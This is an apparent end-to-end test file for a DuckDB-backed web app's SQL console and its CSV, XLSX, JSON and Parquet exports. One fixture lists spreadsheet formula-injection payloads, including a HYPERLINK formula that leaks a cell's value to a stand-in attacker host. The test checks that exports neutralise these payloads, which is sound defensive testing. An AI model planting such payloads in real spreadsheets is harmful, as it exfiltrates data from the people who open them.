import { mkdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { readXlsx } from '../../src/ingest/xlsx';
import { baseUrl, sessionPerTest, type DebugDb } from './browser';

const session = sessionPerTest();
const num = (v: string | null) => Number(v);
const ARTIFACTS = resolve('tests/e2e/.artifacts/export');

/** Opens the console through the navigation, as a user would, once the engine is up (no new page load). */
async function openConsole(page: Page) {
  await page.getByTestId('engine-loading').waitFor({ state: 'detached', timeout: 60000 });
  await page.getByRole('link', { name: /SQL/ }).click();
  await page.getByTestId('sql-editor').waitFor();
}

/** Replaces the editor's text by typing it, key by key. */
async function typeQuery(page: Page, sql: string) {
  const editor = page.getByTestId('sql-editor');
  await editor.click();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  await page.keyboard.type(sql);
  await page.keyboard.press('Escape'); // close a completion popup if one is open
}

async function runAndCount(page: Page): Promise<number> {
  await page.getByTestId('sql-run').click();
  const count = page.getByTestId('sql-rowcount');
  await count.waitFor({ timeout: 60000 });
  return num(await count.getAttribute('data-value'));
}

async function runSql(page: Page, sql: string): Promise<number> {
  await page.getByTestId('sql-editor').fill(sql);
  await page.getByTestId('sql-run').click();
  const count = page.getByTestId('sql-rowcount');
  await count.waitFor({ timeout: 60000 });
  return Number(await count.getAttribute('data-value'));
}

/** Opens an export menu, picks a format and returns the saved file's path and name. */
async function exportAs(page: Page, menu: string, format: string): Promise<{ path: string; name: string }> {
  mkdirSync(ARTIFACTS, { recursive: true });
  const details = page.getByTestId(menu);
  if ((await details.getAttribute('open')) === null) await details.locator('summary').click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId(`${menu}-${format}`).click()]);
  const name = download.suggestedFilename();
  const path = join(ARTIFACTS, `${format}-${name}`);
  await download.saveAs(path);
  return { path, name };
}

describe('SQL console and exports', () => {
  // One cold start for the console and the exports (the CSV round trip imports new data sets, so it comes after the
  // console's checks on the demo); the history is then checked across a reload.
  it('a typed query returns the same total as figure-reported (button and Ctrl+Enter); completes table names; shows DuckDB’s error at its position and keeps working; refuses to modify the app’s tables but keeps scratch tables; exports a Data screen table with its stamp (JSON meta, Parquet); neutralises hostile cells in CSV and XLSX, negative numbers stay numbers; round-trips a query exported as CSV (; and ,) into new data sets with the same totals; cancels a running query; keeps the history across a reload', async () => {
    const page = session().page;
    await page.goto(baseUrl());
    const reported = page.getByTestId('figure-reported');
    await expect.poll(() => reported.getAttribute('data-value').then(num), { timeout: 60000 }).toBeGreaterThan(0);
    const figure = num(await reported.getAttribute('data-value'));
    await openConsole(page);

    // A query over the demo data returns the same total as figure-reported.
    await typeQuery(page, "SELECT sum(annual_gain_dkk) AS total FROM reported_gains WHERE status = 'realised'");
    expect(await page.getByTestId('sql-editor').textContent()).toBe(
      "SELECT sum(annual_gain_dkk) AS total FROM reported_gains WHERE status = 'realised'",
    );
    expect(await runAndCount(page)).toBe(1);
    const total = num(await page.getByTestId('sql-result').locator('[data-value]').first().getAttribute('data-value'));
    expect(total).toBeCloseTo(figure, 2);
    await typeQuery(page, "SELECT * FROM reported_gains WHERE status = 'realised'");
    await page.getByTestId('sql-editor').press('Control+Enter');
    await expect.poll(() => page.getByTestId('sql-rowcount').getAttribute('data-value').then(num)).toBeGreaterThan(1);
    expect(num(await page.getByTestId('sql-rowcount').getAttribute('data-ms'))).toBeGreaterThanOrEqual(0);

    // Completes table names from the schema while typing.
    await page.getByTestId('sql-schema').locator('[data-table="reported_gains"]').waitFor();
    await page.getByTestId('sql-editor').click();
    await page.keyboard.press('Control+A');
    await page.keyboard.type('SELECT * FROM reported_g');
    const option = page.locator('.cm-tooltip-autocomplete li', { hasText: 'reported_gains' });
    await option.first().waitFor({ timeout: 30000 });
    await page.keyboard.press('Escape');

    // A malformed query shows DuckDB’s error at its position and the console keeps working.
    await typeQuery(page, 'SELECT theme FROM reported_gains WHERE WHERE');
    await page.getByTestId('sql-run').click();
    const error = page.getByTestId('sql-error');
    await error.waitFor();
    expect(await error.getAttribute('data-kind')).toBe('duckdb');
    expect(await error.textContent()).toMatch(/syntax error/i);
    expect(num(await error.getAttribute('data-position'))).toBe('SELECT theme FROM reported_gains WHERE '.length);
    // The editor marks the error from an effect after the message renders: polled.
    const mark = page.getByTestId('sql-error-mark');
    await expect.poll(() => mark.textContent()).toBe('WHERE');
    await typeQuery(page, 'SELECT nosuch FROM reported_gains');
    await page.getByTestId('sql-run').click();
    await expect.poll(() => error.textContent()).toMatch(/nosuch/);
    await expect.poll(() => mark.textContent()).toBe('nosuch');
    await typeQuery(page, 'SELECT DISTINCT theme FROM reported_gains');
    expect(await runAndCount(page)).toBeGreaterThan(1);
    expect(await error.count()).toBe(0);

    // Refuses to modify the app’s tables but lets the user keep scratch tables.
    await typeQuery(page, 'SELECT * FROM reported_gains');
    const before = await runAndCount(page);
    await typeQuery(page, 'DELETE FROM reported_gains');
    await page.getByTestId('sql-run').click();
    await error.waitFor();
    expect(await error.getAttribute('data-kind')).toBe('refused');
    expect(await error.textContent()).toMatch(/reported_gains/);
    await typeQuery(page, 'CREATE TABLE my_themes AS SELECT DISTINCT theme FROM reported_gains; SELECT * FROM my_themes');
    expect(await runAndCount(page)).toBeGreaterThan(1);
    await page.getByTestId('sql-schema').locator('[data-table="my_themes"]').waitFor();
    await typeQuery(page, 'SELECT * FROM reported_gains');
    expect(await runAndCount(page)).toBe(before);

    // A Data screen table with its stamp (JSON meta, Parquet).
    await page.getByRole('link', { name: 'Data', exact: true }).click();
    const dataTotal = page.getByTestId('data-total');
    await expect.poll(() => dataTotal.getAttribute('data-value').then(Number), { timeout: 60000 }).toBeGreaterThan(0);
    const tableRows = Number(await dataTotal.getAttribute('data-value'));
    const json = JSON.parse(readFileSync((await exportAs(page, 'data-export', 'json')).path, 'utf8')) as {
      meta: { dataset: string; datasetHash: string; appVersion: string; scenario: { preset: string } };
      rows: unknown[];
    };
    expect(json.rows).toHaveLength(tableRows);
    expect(json.meta.datasetHash).toMatch(/^[0-9a-f]{64}$/);
    expect(json.meta.scenario.preset).toBe('damvad-2017');
    const parquet = readFileSync((await exportAs(page, 'data-export', 'parquet')).path);
    expect(parquet.subarray(0, 4).toString('latin1')).toBe('PAR1');
    expect(parquet.toString('latin1')).toContain(json.meta.datasetHash);

    // Hostile cells in CSV and XLSX; negative numbers stay numbers.
    await page.getByRole('link', { name: /SQL/ }).click();
    await page.getByTestId('sql-editor').waitFor();
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+SUM(1,1)', '-1+2', '@cmd', '\t=1+1', '\r=2+2'];
    const values = hostile.map(
      (h, i) =>
        `(${`'${h.replaceAll("'", "''")}'`.replace('\t', "' || chr(9) || '").replace('\r', "' || chr(13) || '")}, ${i % 2 === 0 ? -12.5 - i : i})`,
    );
    const n = await runSql(
      page,
      `CREATE OR REPLACE TABLE hostile AS SELECT * FROM (VALUES ${values.join(', ')}) t(label, amount); SELECT * FROM hostile ORDER BY amount`,
    );
    expect(n).toBe(hostile.length);
    const csv = readFileSync((await exportAs(page, 'sql-export', 'csv-da')).path, 'utf8').replace(/^\uFEFF/, '');
    for (const h of hostile) expect(csv).toContain(`'${h.replaceAll('"', '""')}`);
    expect(csv).toMatch(/;-12,5\r\n/);
    expect(csv).not.toMatch(/(^|\r\n|;)"?[=+@]/);
    const xlsxBytes = readFileSync((await exportAs(page, 'sql-export', 'xlsx')).path);
    const xlsx = await readXlsx(xlsxBytes, 0);
    expect(xlsx.headers).toEqual(['label', 'amount']);
    const labels = xlsx.rows.map((r) => r[0]);
    for (const h of hostile) expect(labels).toContain(`'${h}`);
    expect(xlsx.rows.map((r) => Number(r[1]))).toContain(-12.5);
    // The stamp is on its own sheet, named in the app's language (Danish by default).
    const sheets = await readXlsx(xlsxBytes, 'Proveniens');
    expect(sheets.rows.find((r) => r[0] === 'spillover.dataset_sha256')?.[1]).toMatch(/^[0-9a-f]{64}$/);

    // Round trip: a query exported as CSV (Danish ; and ,) imports as a new data set with the same totals.
    await page.getByTestId('sql-examples').selectOption('canonical-rows');
    await page.getByTestId('sql-run').click();
    await expect
      .poll(() => page.getByTestId('sql-rowcount').getAttribute('data-value').then(Number), { timeout: 60000 })
      .toBeGreaterThan(100);
    const rows = Number(await page.getByTestId('sql-rowcount').getAttribute('data-value'));
    for (const format of ['csv-da', 'csv']) {
      const file = await exportAs(page, 'sql-export', format);
      // The stamp in the name: what, data set, first 8 hex of its hash, scenario, date, app version.
      // The Danish Excel file says so in its name, so the two never overwrite each other.
      expect(file.name).toMatch(
        new RegExp(
          `^query${format === 'csv-da' ? '-excel-da' : ''}_made-spir-demo-[0-9a-f]{8}_damvad-2017_\\d{4}-\\d{2}-\\d{2}_v\\d+\\.\\d+\\.\\d+\\.csv$`,
        ),
      );
      const bytes = readFileSync(file.path);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(bytes.toString('utf8').split('\r\n')[0]).toContain(
        format === 'csv-da' ? 'project_id;project_title' : 'project_id,project_title',
      );

      await page.getByTestId('import-file').setInputFiles(file.path);
      const summary = page.getByTestId('import-summary');
      await summary.waitFor({ timeout: 60000 });
      expect(Number(await summary.getAttribute('data-rows-in'))).toBe(rows);
      expect(Number(await summary.getAttribute('data-rows-rejected'))).toBe(0);
      expect(Number(await summary.getAttribute('data-rows-loaded'))).toBe(rows);
      expect(Number(await summary.getAttribute('data-realised-total'))).toBeCloseTo(figure, 2);
      await page.getByRole('button', { name: /^(Luk|Close)$/ }).click();
      await summary.waitFor({ state: 'hidden' });
    }
    await page.getByRole('link', { name: /Overblik|Overview/ }).click();
    await expect
      .poll(() => page.getByTestId('figure-reported').getAttribute('data-value').then(Number), { timeout: 60000 })
      .toBeCloseTo(figure, 2);
    // The demo has the same total, so the figure's poll does not show the new set is active: polled too.
    await expect.poll(() => page.getByTestId('dataset-select').inputValue()).not.toBe('demo');

    // Back in the console.
    await page.getByRole('link', { name: /SQL/ }).click();
    await page.getByTestId('sql-editor').waitFor();

    // Cancels a long query (hours of work if not interrupted: the test's timeout is the bound) once the engine
    // is running it, and keeps the history across a reload.
    await typeQuery(page, 'SELECT count(*) FROM range(20000000000) t(i) WHERE i % 7 = 3');
    await page.getByTestId('sql-run').click();
    await page.getByTestId('sql-running').waitFor();
    await page.waitForFunction(() => (globalThis as unknown as { __spilloverDb: DebugDb }).__spilloverDb.busy, null, {
      timeout: 60000,
    });
    await page.getByTestId('sql-cancel').click();
    await error.waitFor({ timeout: 60000 });
    expect(await error.getAttribute('data-kind')).toBe('cancelled');
    await typeQuery(page, 'SELECT 42 AS answer');
    expect(await runAndCount(page)).toBe(1);
    await page.reload();
    await page.getByTestId('sql-editor').waitFor({ timeout: 60000 });
    const options = await page.getByTestId('sql-history').locator('option').allTextContents();
    expect(options.some((o) => o.includes('SELECT 42 AS answer'))).toBe(true);
    expect(options.some((o) => o.includes('range(20000000000)'))).toBe(true);
  });
});
